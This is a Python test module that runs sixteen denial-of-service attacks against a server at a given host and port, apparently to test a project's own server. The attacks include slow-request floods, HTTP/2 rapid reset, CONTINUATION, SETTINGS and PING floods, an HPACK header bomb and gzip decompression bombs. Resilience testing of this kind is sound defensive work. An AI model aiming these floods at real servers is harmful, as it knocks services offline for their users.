"""Attackers of a server, run as a program of their own, so that good clients don't share an interpreter with them.

`python -m tests.faults.attacks NAME HOST:PORT [TOKEN]` attacks until its input ends, with frames made beforehand. It
writes a line when the attack stands, and at the end one that tells in JSON how much was done.
"""

from __future__ import annotations

import json
import os
import resource
import select
import socket
import struct
import sys
import threading
import zlib
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from http.client import HTTPConnection
from itertools import cycle
from pathlib import Path

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

ROOT = Path(__file__).resolve().parent.parent.parent
GET_ACCOUNT = "/gitpod.v1.AccountService/GetAccount"
GET_SUMMARY = "/gitpod.v1.OrganizationService/GetOrganizationInviteSummary"
BODY = b'{"inviteId": "00000000-0000-4000-8000-000000000000"}'

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
RESET_AT_ONCE = struct.pack("ii", 1, 0)
"""Has a socket's end be a reset, and not an orderly one (SO_LINGER)."""

FLOODING = 10
"""How many connections flood at once."""


SENT_AHEAD = 65_536
"""How many bytes are on the way to the server at most (SO_SNDBUF), beside those that it lets wait on its side. Without
a network between, the system hands over all that a sender has, however much, while the server is still reading."""

NICENESS = 10
"""How much less of the processor's time attackers have than those whom they attack: theirs is another machine's."""


def connect(address: str) -> socket.socket:
    host, port = address.rsplit(":", 1)
    connection = socket.socket()
    connection.settimeout(20)
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SENT_AHEAD)
    connection.connect((host, int(port)))
    return connection


def post(body: bytes = BODY, length: int | None = None, *headers: str) -> bytes:
    """Give a request of HTTP/1.1."""
    lines = (f"POST {GET_SUMMARY} HTTP/1.1", "host: x", "content-type: application/json", *headers)
    return "\r\n".join([*lines, f"content-length: {len(body) if length is None else length}", "", ""]).encode() + body


def enveloped(message: bytes, *, compressed: bool = False) -> bytes:
    """Give a message as gRPC frames it."""
    return struct.pack(">BI", compressed, len(message)) + message


def serialized(*frames: Frame) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


def opening(window: int = 2**31 - 1) -> bytes:
    """Give how a client of HTTP/2 begins, with windows of so many bytes for each stream and for all together."""
    settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: window})
    return PREFACE + serialized(settings, *[WindowUpdateFrame(0, window - 65_535)] * (window > 65_535))


def header_block(
    path: str = GET_SUMMARY, content_type: str = "application/json", token: str = "", **more: str
) -> bytes:
    """Give a request's headers, which mean the same in each stream: nothing of them is kept in HPACK's table."""
    pseudo = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")]
    named = [(name.replace("_", "-"), value) for name, value in more.items()]
    authorization = [("authorization", f"Bearer {token}")] if token else []
    fields = [*pseudo, ("content-type", content_type), ("te", "trailers"), *authorization, *named]
    return Encoder().encode([(name, value, True) for name, value in fields])


@dataclass
class Attack:
    """An attack on a server: where it goes, with whose token, until when, and how much of what was done."""

    address: str
    token: str = ""
    over: threading.Event = field(default_factory=threading.Event)
    done: Counter[str] = field(default_factory=Counter)

    def stands(self) -> None:
        """Tell that what was to be set up is, and that the attack goes on."""
        print("stands", flush=True)

    def by_connections(self, use: Callable[[socket.socket], None]) -> None:
        """Open connections and use them until the attack is over, new ones after those that the server closes."""

        def attack() -> None:
            while not self.over.is_set():
                with suppress(OSError), connect(self.address) as connection:
                    self.done["connections"] += 1
                    use(connection)

        workers = [threading.Thread(target=attack) for _ in range(FLOODING)]
        for worker in workers:
            worker.start()
        self.stands()
        for worker in workers:
            worker.join()

    def flood(self, begins: bytes, again: bytes, rounds: int = 20) -> None:
        """Open connections that send this and then that again and again, as fast as can be."""

        def use(connection: socket.socket) -> None:
            connection.sendall(opening() + begins)
            for _ in range(rounds):
                if self.over.is_set():
                    break
                connection.sendall(again)
                self.done["rounds"] += 1
                # What isn't read would have the server close the connection for that alone.
                while select.select([connection], [], [], 0)[0] and connection.recv(1 << 16):
                    pass

        self.by_connections(use)


def slow_bodies(attack: Attack) -> None:
    """Send requests whose bodies come a byte each 0.3 s."""
    with ExitStack() as stack:
        slow = [stack.enter_context(connect(attack.address)) for _ in range(500)]
        for connection in slow:
            connection.sendall(post(b"{", len(BODY)))
        attack.stands()
        while not attack.over.wait(0.3):
            for connection in slow:
                with suppress(OSError):
                    connection.sendall(b" ")
            attack.done["bytes"] += len(slow)


def slow_headers(attack: Attack) -> None:
    """Send requests whose headers come a byte each 20 ms."""
    with ExitStack() as stack:
        slow = [stack.enter_context(connect(attack.address)) for _ in range(500)]
        attack.stands()
        for sent in post():
            if attack.over.wait(0.02):
                break
            for connection in slow:
                with suppress(OSError):
                    connection.sendall(bytes([sent]))
            attack.done["bytes"] += len(slow)


def idle_connections(attack: Attack) -> None:
    """Open 10,000 connections, half of them of HTTP/2, and do nothing with them."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard < 12_000:
        sys.exit("10,000 connections need as many open files: ulimit -Hn 12000")
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    def connected(number: int) -> socket.socket:
        connection = connect(attack.address)
        if number % 2:
            connection.sendall(opening())
        return connection

    with ExitStack() as stack, ThreadPoolExecutor(50) as opening_them:
        opened = []
        for connection in opening_them.map(connected, range(10_000)):
            opened.append(stack.enter_context(connection))
            attack.done["connections"] += 1
        attack.stands()
        attack.over.wait()
        standing = select.poll()
        for connection in opened:
            standing.register(connection, select.POLLRDHUP)
        closed = len(standing.poll(0))
        if closed:
            sys.exit(f"{closed} of the connections were closed")


def hanging_up(attack: Attack) -> None:
    """Send requests to each of their bytes and hang up, one in three with a reset."""
    request = post()
    attack.stands()
    while not attack.over.is_set():
        for length in range(len(request) + 1):
            # The server may be stopped meanwhile.
            with suppress(OSError), connect(attack.address) as connection:
                if length % 3 == 0:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET_AT_ONCE)
                connection.sendall(request[:length])
            attack.done["connections"] += 1


def never_reading(attack: Attack) -> None:
    """Ask for large answers in each protocol, 20 on each of 8 connections, and read none."""
    with ExitStack() as stack:
        for content_type, body in (
            ("application/grpc", enveloped(b"")),
            ("application/grpc-web+proto", enveloped(b"")),
            ("application/json", b"{}"),
        ):
            block = header_block(GET_ACCOUNT, content_type, attack.token)
            for _ in range(8):
                connection = stack.enter_context(connect(attack.address))
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
                connection.sendall(opening(65_535))
                for stream in range(1, 40, 2):
                    connection.sendall(
                        serialized(
                            HeadersFrame(stream, block, flags=["END_HEADERS"]),
                            DataFrame(stream, body, flags=["END_STREAM"]),
                        )
                    )
                    attack.done["requests"] += 1
        attack.stands()
        attack.over.wait()


def unread_pages(attack: Attack) -> None:
    """Ask for the largest file of the pages, 100 times on each of 40 connections, and read none."""
    largest = max((ROOT / "server/web/static/assets").glob("*.js"), key=lambda path: path.stat().st_size)
    fields = [(":method", "GET"), (":scheme", "http"), (":path", f"/assets/{largest.name}"), (":authority", "x")]
    block = Encoder().encode([(name, value, True) for name, value in fields])
    asked = [HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]) for stream in range(1, 200, 2)]
    with ExitStack() as stack:
        for _ in range(40):
            # When there is no room left, the server may close it.
            with suppress(OSError):
                connection = stack.enter_context(connect(attack.address))
                connection.sendall(opening(65_535) + serialized(*asked))
                attack.done["requests"] += len(asked)
                if attack.over.wait(0.1):
                    return
        attack.stands()
        attack.over.wait()


def opened_streams(attack: Attack) -> None:
    """Open streams and leave them, 2,000 on each connection."""
    block = header_block()
    streams = serialized(*[HeadersFrame(stream, block, flags=["END_HEADERS"]) for stream in range(1, 4000, 2)])
    attack.flood(b"", streams, rounds=1)


def abandoned_requests(attack: Attack) -> None:
    """Send whole requests, 100 on each connection, and hang up before any can be answered."""
    block = header_block(GET_ACCOUNT, token=attack.token)
    frames: list[Frame] = []
    for stream in range(1, 200, 2):
        body = DataFrame(stream, b"{}", flags=["END_STREAM"])
        frames += [HeadersFrame(stream, block, flags=["END_HEADERS"]), body]
    attack.flood(b"", serialized(*frames), rounds=1)


def reset_streams(attack: Attack) -> None:
    """Open streams and reset them at once, one half of them whole requests."""
    block = header_block()
    frames: list[Frame] = []
    for stream in range(1, 4000, 2):
        flags = ["END_HEADERS", "END_STREAM"] if stream % 4 == 1 else ["END_HEADERS"]
        frames += [HeadersFrame(stream, block, flags=flags), RstStreamFrame(stream, error_code=8)]
    attack.flood(b"", serialized(*frames), rounds=1)


def continuations(attack: Attack) -> None:
    """Send headers without an end."""
    begins = serialized(HeadersFrame(1, header_block()))
    attack.flood(begins, serialized(*[ContinuationFrame(1, b"\x00\x01a\x7f\x81\x01" + b"b" * 256)] * 200))


def settings(attack: Attack) -> None:
    """Send SETTINGS frames, 1,000 at once."""
    attack.flood(b"", serialized(*[SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})] * 1000))


def pings(attack: Attack) -> None:
    """Send PING frames, 1,000 at once."""
    attack.flood(b"", serialized(*[PingFrame(0, b"12345678")] * 1000))


def empty_data(attack: Attack) -> None:
    """Send DATA frames without data, 1,000 at once."""
    begins = serialized(HeadersFrame(1, header_block(), flags=["END_HEADERS"]))
    attack.flood(begins, serialized(*[DataFrame(1)] * 1000))


def headers_bomb(attack: Attack) -> None:
    """Refer to one large header that is kept in HPACK's table again and again."""
    kept = Encoder().encode([("x-large", "x" * 3900)])
    begins = serialized(HeadersFrame(1, header_block() + kept, flags=["END_HEADERS", "END_STREAM"]))
    bombs = [HeadersFrame(n, header_block() + b"\xbe" * 3000, flags=["END_HEADERS"]) for n in range(3, 400, 2)]
    attack.flood(begins, serialized(*bombs), rounds=1)


BOMB_MIB = 256


def bomb() -> bytes:
    """Give a few bytes of gzip that unpack to a great many."""
    packer, zeros = zlib.compressobj(9, wbits=31), bytes(1024 * 1024)
    return b"".join(packer.compress(zeros) for _ in range(BOMB_MIB)) + packer.flush()


def bombs(attack: Attack) -> None:
    """Send bombs of 256 MiB in gzip, in Connect and gRPC-Web, one after the other on each connection."""
    packed = bomb()
    requests = (
        ({"content-type": "application/json", "content-encoding": "gzip"}, packed),
        ({"content-type": "application/grpc-web+proto", "grpc-encoding": "gzip"}, enveloped(packed, compressed=True)),
    )

    def use(connection: socket.socket) -> None:
        client = HTTPConnection(attack.address)
        client.sock = connection
        for headers, body in cycle(requests):
            if attack.over.is_set():
                break
            client.request("POST", GET_SUMMARY, body, headers)
            client.getresponse().read()
            attack.done["bombs"] += 1

    attack.by_connections(use)


def short_deadlines(attack: Attack) -> None:
    """Send whole requests with a deadline of 1 ms, 20 at once on each connection, and hear what becomes of them."""
    block = header_block(GET_ACCOUNT, "application/grpc", attack.token, grpc_timeout="1m")
    at_once = 20

    def requests(first: int) -> bytes:
        frames: list[Frame] = []
        for stream in range(first, first + 2 * at_once, 2):
            body = DataFrame(stream, enveloped(b""), flags=["END_STREAM"])
            frames += [HeadersFrame(stream, block, flags=["END_HEADERS"]), body]
        return serialized(*frames)

    rounds = [requests(first) for first in range(1, 2000, 2 * at_once)]

    def use(connection: socket.socket) -> None:
        connection.sendall(opening())
        answers = connection.makefile("rb")
        for asked in rounds:
            if attack.over.is_set():
                break
            connection.sendall(asked)
            left = at_once
            while left:
                head = answers.read(9)
                if not head:
                    return
                frame, length = Frame.parse_frame_header(memoryview(head))
                answers.read(length)
                left -= "END_STREAM" in frame.flags
            attack.done["requests"] += at_once

    attack.by_connections(use)


ATTACKS: dict[str, Callable[[Attack], None]] = {
    attack.__name__: attack
    for attack in (
        slow_bodies,
        slow_headers,
        idle_connections,
        hanging_up,
        never_reading,
        unread_pages,
        opened_streams,
        abandoned_requests,
        reset_streams,
        continuations,
        settings,
        pings,
        empty_data,
        headers_bomb,
        bombs,
        short_deadlines,
    )
}


def main() -> None:
    name, address, *token = sys.argv[1:]
    os.nice(NICENESS)
    attack = Attack(address, *token)

    def wait_for_the_end() -> None:
        sys.stdin.read()
        attack.over.set()

    threading.Thread(target=wait_for_the_end, daemon=True).start()
    ATTACKS[name](attack)
    print(json.dumps(attack.done), flush=True)


if __name__ == "__main__":
    main()
